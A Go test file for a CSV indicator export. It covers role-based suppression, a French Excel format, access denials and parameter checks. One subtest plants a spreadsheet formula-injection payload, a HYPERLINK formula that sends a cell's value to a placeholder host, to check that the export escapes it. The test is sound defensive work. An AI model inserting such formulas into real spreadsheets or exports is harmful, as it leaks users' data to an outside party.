package graph_test

import (
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/agir-reseau/agir-backend/endpoint"
	"github.com/agir-reseau/agir-backend/graph/graphtest"
	"github.com/agir-reseau/agir-backend/graph/model"
)

func indicatorsCSV(t *testing.T, env *graphtest.Env, p *model.Principal, query string) (int, [][]string) {
	t.Helper()
	h := endpoint.IndicatorsCSV(env.Store, slog.New(slog.NewTextHandler(io.Discard, nil)))
	req := httptest.NewRequest(http.MethodGet, "/export/indicators.csv?"+query, nil)
	if p != nil {
		req = req.WithContext(model.WithPrincipal(req.Context(), p))
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if rec.Code != http.StatusOK {
		return rec.Code, nil
	}
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("content type %q", ct)
	}
	lines, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rec.Code, lines
}

// rawIndicatorsCSV answers the export's status and body as is.
func rawIndicatorsCSV(t *testing.T, env *graphtest.Env, p *model.Principal, query string) (int, string) {
	t.Helper()
	h := endpoint.IndicatorsCSV(env.Store, slog.New(slog.NewTextHandler(io.Discard, nil)))
	req := httptest.NewRequest(http.MethodGet, "/export/indicators.csv?"+query, nil)
	req = req.WithContext(model.WithPrincipal(req.Context(), p))
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec.Code, rec.Body.String()
}

func TestIndicatorsCSV(t *testing.T) {
	env, _ := indicatorEnv(t)
	const q = "names=ENTRIES,EMPLOYMENT_OR_TRAINING_AT_EXIT&breakdown=DEPARTMENT&from=2026-01-01&to=2026-03-31"
	t.Run("OK", func(t *testing.T) {
		_, lines := indicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), q)
		got := []string{}
		for _, l := range lines[1:] {
			got = append(got, strings.Join([]string{l[0], l[5], l[6], l[8], l[9], l[10], l[12]}, " "))
		}
		want := []string{
			"ENTRIES TOTAL  3 3  false", "ENTRIES DEPARTMENT 38 1 1  false", "ENTRIES DEPARTMENT 69 2 2  false",
			"EMPLOYMENT_OR_TRAINING_AT_EXIT TOTAL  0.6667 2 3 false", "EMPLOYMENT_OR_TRAINING_AT_EXIT DEPARTMENT 69 0.6667 2 3 false",
		}
		if lines[0][0] != "indicator" || strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("csv:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}
	})
	t.Run("OKSuppressedForAnalysts", func(t *testing.T) {
		_, lines := indicatorsCSV(t, env, demoPrincipal(t, env, model.RoleAnalyst), q)
		for _, l := range lines[1:] {
			if l[12] != "true" || l[8] != "" || l[9] != "" || l[10] != "" {
				t.Errorf("shown to an analyst: %v", l)
			}
		}
	})
	t.Run("OKFormulaEscaped", func(t *testing.T) {
		// Issue 15, hole 10: a structure named as a formula is written as text.
		const evil = `=HYPERLINK("http://example.invalid/?x="&A1;"clic")`
		var id string
		if err := env.Store.DB().Get(&id, `UPDATE structures SET name = $1 WHERE agir_role = 'SOCIAL_OPERATOR'
			AND id = (SELECT social_operator_id FROM beneficiaries LIMIT 1) RETURNING id`, evil); err != nil {
			t.Fatal(err)
		}
		_, lines := indicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), "names=ENTRIES&breakdown=STRUCTURE&from=2026-01-01&to=2026-03-31")
		found := false
		for _, l := range lines[1:] {
			for _, cell := range l {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
			if l[6] == id && l[7] == "'"+evil {
				found = true
			}
		}
		if !found {
			t.Errorf("the structure's cell is not in the export: %v", lines)
		}
		// The same in the French format (the ";" inside the name is quoted).
		_, body := rawIndicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), "names=ENTRIES&breakdown=STRUCTURE&from=2026-01-01&to=2026-03-31&format=excel-fr")
		if !strings.Contains(body, `;"'=HYPERLINK(""http://example.invalid/?x=""&A1;""clic"")";`) {
			t.Errorf("excel-fr body:\n%s", body)
		}
	})
	t.Run("OKExcelFR", func(t *testing.T) {
		code, body := rawIndicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), q+"&format=excel-fr")
		if code != http.StatusOK || !strings.HasPrefix(body, "\uFEFFindicator;label;unit;") || !strings.Contains(body, "\r\n") {
			t.Fatalf("%d:\n%q", code, body)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
		r.Comma = ';'
		lines, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := []string{}
		for _, l := range lines[1:] {
			got = append(got, strings.Join([]string{l[0], l[5], l[8], l[11]}, " "))
		}
		want := "ENTRIES TOTAL 3 |ENTRIES DEPARTMENT 1 |ENTRIES DEPARTMENT 2 |" +
			"EMPLOYMENT_OR_TRAINING_AT_EXIT TOTAL 0,6667 0,6|EMPLOYMENT_OR_TRAINING_AT_EXIT DEPARTMENT 0,6667 0,6"
		if strings.Join(got, "|") != want {
			t.Errorf("excel-fr:\n%s", strings.Join(got, "\n"))
		}
		if code, _ := rawIndicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), q+"&format=ods"); code != http.StatusBadRequest {
			t.Errorf("unknown format: %d", code)
		}
	})
	t.Run("ErrForbidden", func(t *testing.T) {
		if code, _ := indicatorsCSV(t, env, demoPrincipal(t, env, model.RolePartnerEditor), q); code != http.StatusForbidden {
			t.Errorf("partner: %d", code)
		}
		if code, _ := indicatorsCSV(t, env, demoPrincipal(t, env, model.RoleStateRepresentative), q+"&departments=38"); code != http.StatusForbidden {
			t.Errorf("state representative outside its territory: %d", code)
		}
		if code, _ := indicatorsCSV(t, env, nil, q); code != http.StatusUnauthorized {
			t.Errorf("anonymous: %d", code)
		}
	})
	t.Run("ErrBadParameter", func(t *testing.T) {
		for _, bad := range []string{"names=NOPE", "breakdown=COLOUR", "from=hier", "from=2026-03-01&to=2026-01-01"} {
			if code, _ := indicatorsCSV(t, env, demoPrincipal(t, env, model.RoleCoordinator), bad); code != http.StatusBadRequest {
				t.Errorf("%s: %d", bad, code)
			}
		}
	})
}
